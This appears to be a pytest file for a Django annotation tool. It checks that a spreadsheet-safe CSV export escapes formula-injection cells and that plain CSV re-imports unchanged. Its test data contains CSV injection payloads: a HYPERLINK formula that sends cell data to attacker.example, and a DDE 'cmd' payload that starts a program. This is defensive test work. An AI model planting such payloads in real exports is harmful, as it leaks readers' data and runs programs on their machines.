"""CSV formula injection (OWASP "CSV Injection"): a text that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return runs as a formula when the exported CSV is opened in a
spreadsheet (``=HYPERLINK(…)`` sends the reader's data away, ``=cmd|…`` asks to start a
program). ``csv`` keeps every cell as stored (lossless re-import, programs read the text as
is); ``csv-spreadsheet`` is the same file for people, every such cell behind a leading ``'``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from projects import states
from projects.models import Candidate, Example, Label
from projects.services.exports import data_export
from projects.services.imports import data_import
from projects.services.projects import project_create
from tests.annotate.factories import researcher

pytestmark = [pytest.mark.django_db, pytest.mark.postgres_too]

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def _project():
    project = project_create(name="cells", task="nli")
    label = Label.objects.get(project=project, name="neutral")
    for i, text in enumerate(FORMULAS):
        ex = Example.objects.create(
            project=project, external_id=f"o{i}", fields={"premise": text, "hypothesis": "h"}, label=label
        )
        Candidate.objects.create(
            project=project,
            external_id=f"c{i}",
            example=ex,
            fields={"premise": "p", "hypothesis": text},
            generator="rules",
            perturbation="=negation",
            state=states.HUMAN_LABELED,
            label=label,
            label_source="human",
            confidence=1.0,
        )
    return project


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _read(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as fh:
        return fh.read()


def _export(project, fmt: str) -> str:
    out = io.StringIO(newline="")
    data_export(project=project, format=fmt, out=out)
    return out.getvalue()


def test_a_spreadsheet_export_quotes_every_cell_a_spreadsheet_would_run():
    project = _project()
    plain, safe = _rows(_export(project, "csv")), _rows(_export(project, "csv-spreadsheet"))
    assert safe[0] == plain[0]  # the same columns
    assert len(safe) == len(plain) == len(FORMULAS) + 1
    quoted = 0
    for plain_row, safe_row in zip(plain[1:], safe[1:], strict=True):
        for cell, shown in zip(plain_row, safe_row, strict=True):
            assert not shown.startswith(("=", "+", "-", "@", "\t", "\r"))
            if cell.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
                assert shown == "'" + cell  # the spreadsheet hides the quote: it shows the text as stored
                quoted += 1
            else:
                assert shown == cell
    assert quoted == 3 * len(FORMULAS)  # premise, hypothesis and perturbation of every row


def test_plain_csv_keeps_the_cells_and_re_imports_to_the_same_bytes(tmp_path: Path):
    project = _project()
    first = tmp_path / "first.csv"
    with open(first, "w", encoding="utf-8", newline="") as fh:
        fh.write(_export(project, "csv"))
    assert {r[3] for r in _rows(_read(first))[1:]} == set(FORMULAS)  # original.premise
    again = project_create(name="again", task="nli")
    data_import(project=again, format="csv", paths=[str(first)])
    assert _export(again, "csv") == _read(first)


def test_the_command_the_page_and_the_api_offer_it(tmp_path: Path, client):
    project = _project()
    out = tmp_path / "cells.csv"
    call_command("export", project="cells", data_format="csv-spreadsheet", out=str(out), stdout=io.StringIO())
    assert _rows(_read(out))[1][3] == "'" + FORMULAS[0]
    client.force_login(researcher())
    page = client.get(f"/projects/{project.pk}/export/")
    assert b"<option>csv-spreadsheet</option>" in page.content
    resp = client.post(f"/projects/{project.pk}/export/", {"format": "csv-spreadsheet"})
    assert resp.status_code == 200 and resp["Content-Disposition"].endswith('cells.csv"')
    assert _rows(b"".join(resp.streaming_content).decode())[1][3] == "'" + FORMULAS[0]
    api = client.post(f"/api/v1/projects/{project.pk}/export/", {"format": "csv-spreadsheet"}, format="json")
    assert api.status_code == 200 and api["Content-Disposition"].endswith('cells.csv"')
